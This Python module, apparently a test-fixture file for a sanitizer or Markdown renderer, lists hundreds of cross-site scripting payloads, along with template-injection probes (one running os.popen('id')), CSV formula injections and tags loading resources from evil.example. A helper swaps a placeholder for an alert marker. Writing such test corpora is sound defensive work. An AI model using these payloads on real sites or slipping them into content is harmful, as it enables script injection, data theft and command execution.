"""Texts that try to run, load or leave a page when somebody publishes them. RUN stands for the code to be run."""

from __future__ import annotations

import itertools

EVIL = "https://evil.example"

_HANDLERS = (
    "<img src=x onerror=RUN>", "<img src=x:x onerror=RUN//", '<img src=x onerror="RUN"', "<img/src=x/onerror=RUN>", "<IMG SRC=x OnErRoR=RUN>", "<img src=x\nonerror\n=\nRUN>", "<img src=`x`onerror=RUN>", "<img src=x onerror=&#82;UN>",
    "<svg onload=RUN>", "<svg/onload=RUN>", "<svg onload=RUN//", "<svg><animate onbegin=RUN attributeName=x dur=1s>", "<svg><set onbegin=RUN attributeName=x>", "<svg><animatetransform onbegin=RUN>", "<body onload=RUN>", "<body onpageshow=RUN>",
    "<input autofocus onfocus=RUN>", "<select autofocus onfocus=RUN>", "<textarea autofocus onfocus=RUN>", "<keygen autofocus onfocus=RUN>", "<a id=x tabindex=1 autofocus onfocus=RUN>x</a>", "<div contenteditable autofocus onfocus=RUN>x</div>",
    "<video src=x onerror=RUN>", "<video><source onerror=RUN></video>", "<video autoplay onloadstart=RUN src=x></video>", "<audio src=x onerror=RUN>", "<object data=x onerror=RUN>", "<embed src=x onerror=RUN>", "<iframe onload=RUN></iframe>",
    "<details open ontoggle=RUN>x</details>", "<marquee onstart=RUN>x</marquee>", "<marquee loop=1 width=0 onfinish=RUN>x</marquee>", "<style onload=RUN></style>", "<link rel=stylesheet href=data:text/css, onload=RUN>", "<script onerror=RUN src=x></script>",
    "<b onmouseover=RUN>x</b>", "<b onclick=RUN>x</b>", "<b onpointerenter=RUN>x</b>", "<b style=animation-name:x onanimationstart=RUN>x</b>", "<b onwheel=RUN>x</b>", "<b oncontextmenu=RUN>x</b>", "<p oncopy=RUN>x</p>", "<button popovertarget=x onclick=RUN>x</button><div popover id=x onbeforetoggle=RUN>y</div>",
    "<xss onfocus=RUN tabindex=1 autofocus>x</xss>", "<dialog open oncancel=RUN>x</dialog>", "<form onsubmit=RUN><button>x</button></form>", "<meter onmouseover=RUN value=2>x</meter>", "<frameset onload=RUN>", "<table background=javascript:RUN><tr><td>x</table>",
)
_SCRIPTS = (
    "<script>RUN</script>", "<SCRIPT>RUN</SCRIPT>", "<script >RUN</script >", "<script\t>RUN</script>", "<script/x>RUN</script>", "<scr<script>ipt>RUN</scr</script>ipt>", "<<script>RUN//<</script>", "<script>RUN", "<script>RUN//", "<script src=//evil.example/x.js></script>",
    "<script src=data:text/javascript,RUN></script>", "<script type=module>RUN</script>", "<script type=text/javascript>RUN</script>", "<svg><script>RUN</script></svg>", "<svg><script xlink:href=data:,RUN></script></svg>", "<svg><script>&#82;UN</script></svg>", "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>RUN</x:script>",
    "</script><script>RUN</script>", "</title><script>RUN</script>", "</style><script>RUN</script>", "</textarea><script>RUN</script>", "</noscript><script>RUN</script>", "</template><script>RUN</script>", "</option></select><script>RUN</script>", "--><script>RUN</script>", "--!><script>RUN</script>", "]]><script>RUN</script>",
    "<!--><script>RUN</script>-->", "<!---><script>RUN</script>-->", "<!--x--!><script>RUN</script>-->", "<![CDATA[><script>RUN</script>]]>", "<?xml ?><script>RUN</script>", "<!doctype x [<!ENTITY y '<script>RUN</script>'>]>&y;", "<%00script>RUN</script>", "<script\x0c>RUN</script>", "\ufeff<script>RUN</script>",
    "\u2028<script>RUN</script>\u2029", "＜script＞RUN＜/script＞", "%3Cscript%3ERUN%3C/script%3E", "%253Cscript%253ERUN%253C/script%253E", "\\u003cscript\\u003eRUN\\u003c/script\\u003e", "\\x3cscript\\x3eRUN\\x3c/script\\x3e", "&lt;script&gt;RUN&lt;/script&gt;", "&amp;lt;script&amp;gt;RUN&amp;lt;/script&amp;gt;",
    "&#60;script&#62;RUN&#60;/script&#62;", "&#x3c;script&#x3e;RUN&#x3c;/script&#x3e;", "&#0000060script&#0000062RUN&#0000060/script&#0000062", "+ADw-script+AD4-RUN+ADw-/script+AD4-", "\xbcscript\xbeRUN\xbc/script\xbe",
)
_BREAKS = (
    '"><script>RUN</script>', "'><script>RUN</script>", '"><img src=x onerror=RUN>', "'><img src=x onerror=RUN>", '" onmouseover="RUN', "' onmouseover='RUN", '" autofocus onfocus=RUN tabindex=1 x="', "' autofocus onfocus=RUN tabindex=1 x='", "` onmouseover=RUN `", "x onmouseover=RUN", '"/onclick=RUN/"',
    '" style="position:fixed;inset:0" onclick="RUN', '"; RUN; //', "'; RUN; //", '\\"; RUN; //', "\\'; RUN; //", "`-RUN-`", "${RUN}", '"-RUN-"', "'-RUN-'", '"]; RUN; //', '"}]; RUN; //', "*/RUN/*", "//\nRUN", "\u2028RUN//", "</script><svg/onload=RUN>", '"><svg onload=RUN x="', "&quot;onmouseover=&quot;RUN", "&#34; onmouseover=&#34;RUN", "&#39;;RUN//",
)
_SCHEMES = ("javascript:RUN", "JaVaScRiPt:RUN", "java\tscript:RUN", "java\nscript:RUN", "\x01javascript:RUN", " javascript:RUN", "javascript&colon;RUN", "&#106;avascript:RUN", "&#x6A;avascript:RUN", "javascript&#58;RUN", "java&Tab;script:RUN", "java&NewLine;script:RUN", "javascript:%52UN", "%6Aavascript:RUN", "javascript://%0aRUN", "vbscript:RUN", "data:text/html,<script>RUN</script>", "data:text/html;base64,PHNjcmlwdD5SVU48L3NjcmlwdD4=", "data:image/svg+xml,<svg onload=RUN>", "livescript:RUN", "view-source:javascript:RUN", "feed:javascript:RUN", "blob:javascript:RUN", "jar:javascript:RUN")
_AROUND_SCHEMES = ('<a href="{}">x</a>', "[x]({})", "[x](<{}>)", "<{}>")
_LINKS = (
    "[x][y]\n\n[y]: javascript:RUN", "[y]: javascript:RUN 'x'\n\n[y]", "![x](javascript:RUN)", '![x](x" onerror="RUN)', '![x" onerror="RUN](photos/a.jpg)', '![x](photos/a.jpg "\\" onerror=\\"RUN")', '[x](https://a.example/"onclick="RUN)', '[x](https://a.example/ "x\\" onclick=\\"RUN")', "[x](https://a.example/' onclick='RUN)", '<https://a.example/"onclick="RUN>',
    "<javascript:RUN@a.example>", "[<img src=x onerror=RUN>](https://a.example/)", "[x](https://a.example/)<img src=x onerror=RUN>", "`<script>RUN</script>`", "```\n</code></pre><script>RUN</script>\n```", '```"><script>RUN</script>\nx\n```', "    </code></pre><script>RUN</script>", "# <script>RUN</script>", "> <script>RUN</script>", "- <script>RUN</script>",
    "| <script>RUN</script> | x |\n|---|---|\n| <img src=x onerror=RUN> | y |", "<div>\n\n<script>RUN</script>\n\n</div>", "<b>*<img src=x onerror=RUN>*</b>", "*<img src=x onerror=RUN>*", "\\<script>RUN</script>", "<a\nhref=javascript:RUN>x</a>", "<a href='https://a.example/' onclick=RUN>x</a>", "<a href=//evil.example ping=//evil.example>x</a>", "<a href='javascript:RUN' download>x</a>", "<a xlink:href=javascript:RUN>x</a>", "[a](\\javascript:RUN)",
)
_MUTATIONS = (
    '<noscript><p title="</noscript><img src=x onerror=RUN>">', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">', '<math><mtext><table><mglyph><style><math><table id="</table>"><img src=x onerror=RUN">', "<svg><style><img src=x onerror=RUN></style></svg>", '<svg><p><style><g title="</style><img src=x onerror=RUN>">', '<svg></p><style><a id="</style><img src=x onerror=RUN>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>", "<math><annotation-xml encoding=text/html><img src=x onerror=RUN></annotation-xml></math>", "<svg><foreignobject><img src=x onerror=RUN></foreignobject></svg>", '<svg><desc><style><!--</style><a title="--><img src=x onerror=RUN>">', "<template><img src=x onerror=RUN></template>", "<template shadowrootmode=open><img src=x onerror=RUN></template>", "<select><style></select><img src=x onerror=RUN></style>", '<select><template><style><!--</style><a rel="--></style></template></select><img id=x src=x onerror=RUN>">',
    "<table><td><style><!--</style></td></table><img src=x onerror=RUN>-->", '<xmp><p title="</xmp><img src=x onerror=RUN>">', '<noembed><img title="</noembed><img src=x onerror=RUN>">', '<noframes><img title="</noframes><img src=x onerror=RUN>">', '<iframe><img title="</iframe><img src=x onerror=RUN>">', "<plaintext><script>RUN</script>", '<textarea><img title="</textarea><img src=x onerror=RUN>">', '<title><img title="</title><img src=x onerror=RUN>">', '<style><img title="</style><img src=x onerror=RUN>">',
    "<a><b><a><img src=x onerror=RUN></b></a>", "<p><svg><p><img src=x onerror=RUN></p></svg>", "<dl><dt><math><mi><dl><img src=x onerror=RUN>", "<img alt='<x' src=x onerror=RUN>", '<img alt="<script>" src=x onerror=RUN>', "<![endif]><img src=x onerror=RUN>", "<!--[if IE]><img src=x onerror=RUN><![endif]-->", "<?php echo('<script>RUN</script>')?>", "<math href=javascript:RUN>x</math>", "<maction actiontype=statusline xlink:href=javascript:RUN>x</maction>", "<svg><a xlink:href=javascript:RUN><text y=20>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a href='javascript:RUN'><rect width='9' height='9'/></a></svg>#x></svg>", "<svg><animate xlink:href=#y attributeName=href values=javascript:RUN /><a id=y><text y=20>x</text></a></svg>", "<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load>RUN</handler></svg>",
)
_PAGES = (
    "<iframe src=javascript:RUN></iframe>", "<iframe srcdoc='<script>top.RUN</script>'></iframe>", '<iframe srcdoc="&lt;img src=x onerror=top.RUN&gt;"></iframe>', f"<iframe src={EVIL}></iframe>", f"<object data={EVIL}></object>", "<object data=javascript:RUN></object>", f"<embed src={EVIL}>", "<embed src=javascript:RUN>", f"<base href={EVIL}/>", "<base href=javascript:/a/+RUN//>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>", "<meta http-equiv=refresh content='0;url=javascript:RUN'>", "<meta http-equiv=refresh content='0;url=data:text/html,<script>RUN</script>'>", "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">", "<meta charset=utf-7>+ADw-script+AD4-RUN+ADw-/script+AD4-", f"<link rel=stylesheet href={EVIL}/x.css>", f"<link rel=preload as=image href={EVIL}/x>", f"<link rel=prefetch href={EVIL}/x>", f"<link rel=dns-prefetch href={EVIL}>", f"<link rel=preconnect href={EVIL}>", f"<link rel=icon href={EVIL}/x.ico>", f"<link rel=manifest href={EVIL}/x>", "<link rel=import href=data:text/html,<script>RUN</script>>",
    f"<form action={EVIL}><input type=submit value=x autofocus></form>", "<form action=javascript:RUN><input type=submit></form>", "<form id=y></form><button form=y formaction=javascript:RUN>x</button>", "<isindex action=javascript:RUN type=submit>", f"<img src={EVIL}/x.png>", f"<img srcset='{EVIL}/x.png 1x'>", f"<picture><source srcset={EVIL}/x.png><img src=x></picture>", f"<video poster={EVIL}/x.png></video>", f"<audio src={EVIL}/x.mp3 autoplay></audio>", f"<track src={EVIL}/x>", f"<input type=image src={EVIL}/x.png>", f"<svg><image href={EVIL}/x.png /></svg>", f"<svg><use href={EVIL}/x.svg#y /></svg>", f"<body background={EVIL}/x.png>", f"<table background={EVIL}/x.png><tr><td>x</table>", f"![x]({EVIL}/x.png)", f"[x][y]\n\n[y]: {EVIL}",
    f"<style>@import url({EVIL}/x.css);</style>", f"<style>*{{background:url({EVIL}/x)}}</style>", "<style>*{x:expression(RUN)}</style>", f"<b style='background:url({EVIL}/x)'>x</b>", "<b style='width:expression(RUN)'>x</b>", "<b style=\"-moz-binding:url('data:text/xml,x')\">x</b>", "<b style='behavior:url(x.htc)'>x</b>", "<style>li{list-style-image:url(javascript:RUN)}</style>", "</style><style>*{display:none}</style>", "}*{display:none}", f"<font face='x' style=\"src:url({EVIL}/x)\">x</font>", '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["https://evil.example/"]}]}</script>', '<script type=importmap>{"imports":{"x":"https://evil.example/"}}</script>',
)
_TEMPLATES = (
    "{{ 7*7 }}", "{{ config }}", "{{ self.__init__.__globals__ }}", "{{ ''.__class__.__mro__ }}", "{{ '<script>RUN</script>'|safe }}", "{% raw %}<script>RUN</script>{% endraw %}", "{% include '/etc/passwd' %}", "{% set x = 1 %}", "{# <script>RUN</script> #}", "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "{% autoescape false %}<script>RUN</script>{% endautoescape %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('RUN')()}}", "[[${RUN}]]", "%(name)s", "%s%n%x", "{0.__class__}", "{name!r:>100}", "$RUN$", "{{{ RUN }}}",
)
_POLYGLOTS = (
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=RUN )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=RUN//>\\x3e", "'\">><marquee><img src=x onerror=RUN></marquee>\"></plaintext\\></|\\><plaintext/onmouseover=RUN><script>RUN</script>", "\"'--></title></style></textarea></script></noscript><svg onload=RUN>", "';RUN//\\';RUN//\";RUN//\\\";RUN//--></SCRIPT>\">'><SCRIPT>RUN</SCRIPT>", "<svg/onload=`RUN`>'\"--></style></script><img src=x onerror=RUN>", "-->'\"/></sCript><svG x=\">\" onload=(RUN)>",
    "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example","x")', "+1+cmd|'x'!A0", "-1+1+cmd|'x'!A0", "@SUM(1+1)*cmd|'x'!A0", "\u2029</script><img src=x onerror=RUN>", "＝1+1", "＜img src=x onerror=RUN＞", "ʺ onmouseover=RUN ʺ", "‹script›RUN‹/script›",
)


def strings() -> list[str]:
    """Every text, each once."""
    schemes = [form.format(scheme) for form, scheme in itertools.product(_AROUND_SCHEMES, _SCHEMES)]
    found = dict.fromkeys([*_HANDLERS, *_SCRIPTS, *_BREAKS, *_SCHEMES, *schemes, *_LINKS, *_MUTATIONS, *_PAGES, *_TEMPLATES, *_POLYGLOTS])
    return list(found)


def armed(text: str, mark: int) -> str:
    """The text with code in it that tells which it was."""
    return text.replace("RUN", f"(top.struck||alert)({mark})")
